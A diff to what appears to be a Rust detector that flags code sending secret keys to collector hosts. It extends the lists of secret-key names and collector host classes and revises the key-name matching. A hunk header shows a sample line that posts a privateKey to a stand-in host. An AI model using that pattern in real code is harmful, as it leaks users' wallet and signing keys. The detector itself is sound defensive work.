@@ -113,7 +113,7 @@ exports.send = (text, privateKey) => fetch("https://node.example/", { method: "P
 };
 
 /// Names of what nobody hands on: lower case, without `_`.
-const KEYS: [&str; 12] = [
+const KEYS: [&str; 15] = [
     "privatekey",
     "privkey",
     "secretkey",
@@ -126,7 +126,12 @@ const KEYS: [&str; 12] = [
     "walletseed",
     "masterkey",
     "signingkey",
+    "signingsecret",
+    "webhooksecret",
+    "secretseed",
 ];
+/// Names that mean a key only as a whole.
+const WHOLE: [&str; 6] = ["priv", "prv", "seed", "sk", "wif", "xprv"];
 /// Classes of hosts that collect what anybody sends.
 const COLLECTORS: [&str; 6] = [
     "oast",
@@ -182,7 +187,7 @@ fn is_key(name: &str) -> bool {
         .filter(char::is_ascii_alphanumeric)
         .map(|c| c.to_ascii_lowercase())
         .collect();
-    plain == "seed" || plain == "wif" || KEYS.iter().any(|key| plain.contains(key))
+    WHOLE.contains(&&*plain) || KEYS.iter().any(|key| plain.contains(key))
 }
 
 #[cfg(test)]
